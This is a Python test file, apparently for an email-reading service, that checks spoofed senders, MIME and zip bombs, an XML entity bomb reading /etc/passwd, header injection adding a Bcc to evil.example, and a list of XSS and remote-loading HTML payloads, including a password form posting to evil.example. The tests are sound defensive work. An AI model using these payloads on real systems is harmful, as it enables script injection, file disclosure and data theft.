"""Hostile mail, whole ways: from its bytes to where it stands. A test for each kind that RELIABILITY.md 1.3 names."""

import hashlib
import json
import re
import socket
import subprocess
import sys
import zlib
from email.utils import parseaddr

import pytest
from lxml import html
from sqlalchemy import func, select

from engine.conversations.received import ReceivedBytes
from engine.conversations.thread import Thread
from engine.outbox.post import answer
from engine.people.consent import Consent
from reply_router.budget.limits import MB
from reply_router.budget.process import ROOT
from reply_router.budget.readers import readers
from reply_router.reading import Kind, read, read_html
from tests.reply_router.conversation import DOMAIN, Town
from tests.reply_router.reading.test_hostile import HOSTILE

ROSA = "Rosa Marin <rosa@home.example>"
HELLO = f"hello@{DOMAIN}"


def test_a_spoofed_sender_stops_nobody_answers_for_nobody_and_commands_nobody(town: Town) -> None:
    town.letter("Rosa", "choose")
    with town.house.read() as session:
        consents = session.scalar(select(func.count()).select_from(Consent))
    words = ("stop", "unsubscribe", "meet", "less", "#close", "#note She said so.", "leave Atlanta")
    for said in words:
        row = town.writes(ROSA, f"atlanta@{DOMAIN}", said, Auto_Submitted="no", dmarc="fail")
        assert row.outcome in ("thread", "needs_person", "command") and row.effect in ("", "pending"), said
        assert row.detail["proof"]["state"] == "failed"
    assert town.question("Rosa").answered_at is None
    with town.house.read() as session:
        assert session.scalar(select(func.count()).select_from(Consent)) == consents
    assert all(thread.closure_id is None for thread in town.threads()) and town.is_balanced()


BOMBS = {
    "2,000 nested parts": "open the original",
    "20,000 parts": "open the original",
    "10,000 headers": "",
    "a header of 500 kB": "",
    "a folded header of 500 kB": "",
    "letters in letters": "open the original",
    "a line of 1 MB": "",
    "nested comments in From": "",
    "deep HTML": "",
}


def test_a_bomb_of_parts_or_headers_is_read_as_far_as_it_goes_within_its_time_at_the_first_try(town: Town) -> None:
    for name, mark in BOMBS.items():
        raw = HOSTILE[name]
        row = town.hears(raw, HELLO, dmarc="")
        assert row.outcome in ("thread", "needs_person") and row.attempts == 1, name
        assert not mark or mark in town.thread(row).marks, name
        with town.house.read() as session:
            kept = session.get_one(ReceivedBytes, row.bytes_id)
            assert kept.body == raw and kept.sha256 == hashlib.sha256(raw).digest(), name
        assert readers.read(raw).seconds < 2, name
    assert town.is_balanced()


def _bomb() -> bytes:
    packing = zlib.compressobj(9, wbits=31)
    return b"".join(packing.compress(bytes(MB)) for _ in range(40)) + packing.flush()


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(12))
    + '<!ENTITY file SYSTEM "file:///etc/passwd">]><x>&m; &file;</x>'
)
#: Reads a mail where whatever unpacks or takes XML entities apart says so.
WATCHED_UNPACKING = """
import bz2, lzma, sys, xml.parsers.expat, zlib
did = []

def watched(name, real):
    return lambda *given, **named: (did.append(name), real(*given, **named))[1]

for module, names in ((zlib, ("decompress", "decompressobj")), (bz2, ("decompress", "BZ2Decompressor")),
                      (lzma, ("decompress", "LZMADecompressor")), (xml.parsers.expat, ("ParserCreate",))):
    for name in names:
        setattr(module, name, watched(name, getattr(module, name)))
from reply_router.reading import read, read_html
did.clear()  # libraries unpack what is theirs when they are imported
raw = sys.stdin.buffer.read()
read(raw)
read_html(raw.decode("latin-1"))
print(*did)
"""
#: Reads mails, and prints whatever it did that reaches beyond the process.
WATCHED_REACHING = """
import json, sys
from reply_router.reading import read
read(b"a: b\\n\\nc")
did, reaching = [], ("socket.", "subprocess.", "os.system", "os.exec", "os.fork", "os.posix_spawn", "urllib.")
sys.addaudithook(lambda event, args: did.append(event) if event.startswith(reaching) else None)
for raw in json.load(sys.stdin):
    read(raw.encode("latin-1"))
print(*did)
"""


def _watched(program: str, given: bytes) -> str:
    """What the program printed, in a process of its own."""
    return subprocess.run(
        [sys.executable, "-c", program], input=given, capture_output=True, check=True, timeout=60, cwd=ROOT
    ).stdout.decode()


def test_archives_and_entities_are_never_unpacked() -> None:
    head = b"Subject: x\nContent-Type: multipart/mixed; boundary=b\n\n--b\n\nLook at these.\n"
    raw = head + b"".join(
        b"--b\nContent-Type: %s\nContent-Disposition: attachment; filename=%s\n\n%s\n" % part
        for part in (
            (b"application/zip", b"a.zip", _bomb()),
            (b"application/pdf", b"a.pdf", b"%PDF-1.7\n1 0 obj << /Filter [/FlateDecode] >> stream\n" + _bomb()),
            (b"text/xml", b"a.xml", LAUGHS.encode()),
            (b"image/svg+xml", b"a.svg", LAUGHS.encode()),
        )
    )
    reading = readers.read(raw)
    assert reading.text == "Look at these." and [each.name for each in reading.attachments] == [
        "a.zip", "a.pdf", "a.xml", "a.svg",
    ]  # fmt: skip
    assert sum(each.size for each in reading.attachments) < 2 * MB
    laughing = read_html(LAUGHS + "<p>Hello</p>")
    assert len(laughing.text) < 5_000 and "root:" not in laughing.text
    assert _watched(WATCHED_UNPACKING, raw).split() == []


@pytest.mark.parametrize("codec", ["base64", "rot13", "zlib", "unicode_escape", "utf-7", "idna", "undefined", "x" * 70])
def test_a_charset_that_is_none_costs_no_words_and_decodes_nothing(codec: str) -> None:
    words = "Uryyb +ADw-b+AD4- \\x41 eJzLSM3JyQcABiwCFQ=="
    reading = read(f"Subject: =?{codec}?q?Uryyb?=\nContent-Type: text/plain; charset={codec}\n\n{words}\n".encode())
    assert reading.kind is Kind.HUMAN and reading.text == words
    assert "Uryyb" in (reading.subject or "")


def test_line_breaks_smuggled_into_headers_reach_no_header_of_ours(town: Town) -> None:
    smuggled = "=?utf-8?q?Hello=0D=0ABcc:_spy@evil.example=0D=0A=0D=0Abody?="
    to = parseaddr(str(town.letter("Rosa")["Reply-To"]))[1]
    raw = (
        f"From: {smuggled} <rosa@home.example>\r\nTo: {to}\r\nSubject: Re: {smuggled}\r\n"
        "Message-ID: <1@home.example>\r\n\r\nYes.\r\n"
    )
    row = town.hears(raw.encode(), to)
    message = town.message(row)
    assert not re.search(r"[\r\n\0]", message.subject + message.author_name + town.thread(row).subject)
    with town.house.services.db.write() as session:
        thread = session.get_one(Thread, row.thread_id)
        answer(session, thread, town.person_id("Denise"), "Thank you.", town.house.now, key="one")
    town.house.send()
    ours = town.house.mails("Rosa")[-1]
    assert ours["Bcc"] is None and "spy@evil.example" not in str(ours["To"])
    assert not any("spy" in each.rcpt_to for each in town.house.relay.taken)


ACTIVE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi xlink:href='data:text/html,<script>alert(1)</script>'>x</mi></math>",
    "<iframe src='javascript:alert(1)' srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object><embed src='x.swf'>",
    "<a href='jAvAsCrIpT:alert(1)'>a</a><a href='data:text/html,x'>b</a><a href='vbscript:x'>c</a>",
    "<a href=' &#106;avascript:alert(1)'>a</a><a href='java\tscript:alert(1)'>b</a>",
    "<form action='https://evil.example'><input name=password><button formaction='javascript:x'>b</button></form>",
    "<base href='https://evil.example/'><link rel=stylesheet href='//evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>@import url(https://evil.example/x.css);body{background:url(//evil.example/b)}</style>",
    "<p style='background:url(https://evil.example/x);position:fixed'>x</p>",
    "<img src='https://evil.example/pixel.gif' srcset='https://evil.example/2x.gif 2x'><picture><source srcset='//e'>",
    "<video poster='https://evil.example/x' src='//e' autoplay onplay=alert(1)></video><audio src='//e'></audio>",
    "<table background='https://evil.example/x'><tr><td background='//e'>x</td></tr></table>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template><xmp><img src=x onerror=alert(1)></xmp>",
    "<!--[if mso]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(1)</script>]]>",
    "<div onclick=alert(1) onmouseover='alert(1)' autofocus onfocus=alert(1) tabindex=1>x</div>",
    "<details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>x</marquee>",
    '"><script>alert(1)</script>', "<<script>script>alert(1)<</script>/script>", "<scr\0ipt>alert(1)</scr\0ipt>",
)  # fmt: skip
#: Whatever these do, it is done by the reader's browser.
DOING = {
    "script", "style", "svg", "math", "iframe", "object", "embed", "form", "input", "button", "base", "link", "meta",
    "img", "picture", "source", "video", "audio", "noscript", "template", "xmp", "textarea", "select", "applet",
    "frame",
}  # fmt: skip
LOADING = {"src", "srcset", "style", "background", "poster", "data", "action", "formaction", "srcdoc", "xlink:href"}


@pytest.mark.parametrize("active", ACTIVE)
def test_markup_that_does_something_does_nothing_in_what_is_shown(active: str) -> None:
    shown = read_html(f"<p>Hello</p>{active}<p>Bye</p>").html or ""
    tree = html.fromstring(f"<div>{shown}</div>")
    for element in tree.iter():
        assert element.tag not in DOING, shown
        for name, value in ((str(name), str(value)) for name, value in element.attrib.items()):
            assert not name.startswith("on") and name not in LOADING, shown
            if name == "href":
                assert re.match(r"(https?|mailto|tel):", value), shown


def test_reading_opens_no_connection_and_runs_nothing() -> None:
    with socket.create_server(("127.0.0.1", 0)) as bait:
        bait.settimeout(0.05)
        url = f"http://127.0.0.1:{bait.getsockname()[1]}/pixel.gif"
        outside = f'message/external-body; access-type=URL; URL="{url}"'
        raw = f"From: a@hill.example\nSubject: {url}\nContent-Type: {outside}\n\nContent-Type: text/html\n\n".encode()
        page = (
            f"<!DOCTYPE html PUBLIC 'x' '{url}'><html><head><link rel=stylesheet href='{url}'>"
            f"<base href='{url}'></head>"
            f"<img src='{url}'><a href='{url}'>{url}</a><iframe src='{url}'></iframe></html>"
        )
        mails = [raw, b"Subject: x\nContent-Type: text/html\n\n" + page.encode(), *list(HOSTILE.values())[:8]]
        given = json.dumps([each.decode("latin-1") for each in mails]).encode()
        assert _watched(WATCHED_REACHING, given).split() == []
        with pytest.raises(TimeoutError):
            bait.accept()


def test_a_name_that_turns_the_writing_or_hides_letters_is_shown_plainly(town: Town) -> None:
    row = town.hears(
        b"From: =?utf-8?q?=E2=80=AEmoc.elpmaxe=40ayam=E2=80=AC?= <bad@evil.example>\r\n"
        b"Subject: =?utf-8?q?in=E2=80=AEfdp.exe?=\r\n\r\nHi.\r\n",
        HELLO,
    )
    thread = town.thread(row)
    turning = "[\u202a-\u202e\u2066-\u2069]"
    assert not re.search(turning, thread.correspondent_name) and thread.correspondent == "bad@evil.example"
